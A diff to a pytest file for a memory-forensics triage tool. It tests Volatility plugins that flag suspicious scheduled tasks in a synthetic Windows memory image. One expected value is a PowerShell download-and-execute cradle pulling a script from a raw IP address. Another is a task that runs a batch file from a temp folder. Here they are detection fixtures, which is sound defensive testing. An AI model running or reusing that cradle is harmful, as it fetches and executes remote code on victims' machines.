@@ -4,11 +4,16 @@ missing kernel symbol table gives one clear gap instead of a traceback."""
 from __future__ import annotations
 
 import hashlib
+import subprocess
+import sys
+from pathlib import Path
+
+import pytest
 
 from Registry import Registry
 
 from test_images.memimage import build_memory_image
-from tests.memory.conftest import run_collector
+from tests.memory.conftest import ROOT, run_collector
 
 
 def test_stock_pslist_psscan_cmdline_agree_with_the_image(images, win10, vol):
@@ -35,12 +40,27 @@ def test_stock_hivelist_dump_is_a_hive_python_registry_reads(images, vol, tmp_pa
     assert len(tasks.subkeys()) == 4
 
 
-def test_vol_cli_runs_triage_plugins(images, vol):
-    rows = {r["PID"]: r for r in vol(images["win10"], "taskprocs.TaskProcs", plugins=True)}
+def _package_plugin_dir() -> str:
+    """What `python -m triage.volplugins --path` prints (run as a user would, from the checkout)."""
+    done = subprocess.run([sys.executable, "-m", "triage.volplugins", "--path"], capture_output=True, text=True,
+                          cwd=str(ROOT), check=True)
+    return done.stdout.strip()
+
+
+def test_volplugins_path_is_the_package_folder_holding_both_plugins():
+    folder = Path(_package_plugin_dir())
+    assert folder == ROOT / "triage" / "volplugins"
+    assert {p.name for p in folder.glob("*.py")} >= {"taskprocs.py", "taskcache_mem.py"}
+
+
+@pytest.mark.parametrize("plugin_dir", ["package", "plugins"])
+def test_vol_cli_runs_triage_plugins(images, vol, plugin_dir):
+    folder = _package_plugin_dir() if plugin_dir == "package" else "plugins"
+    rows = {r["PID"]: r for r in vol(images["win10"], "taskprocs.TaskProcs", plugins=folder)}
     assert rows[5120]["Task"] == r"\WinUpdateCheck"
     assert rows[5120]["Decoded"] == "IEX (New-Object Net.WebClient).DownloadString('http://185.220.101.47/a.ps1')"
     assert rows[6044]["Seen"] == "psscan" and rows[7016]["Flags"] == "task_not_in_registry,user_writable_path"
-    tasks = {r["Task"]: r for r in vol(images["win7"], "taskcache_mem.TaskCacheMem", plugins=True)}
+    tasks = {r["Task"]: r for r in vol(images["win7"], "taskcache_mem.TaskCacheMem", plugins=folder)}
     assert tasks[r"\AdobeFlashSync"]["Actions"] == r'exec: cmd.exe /c "C:\Windows\Temp\bk.bat"'
 
 
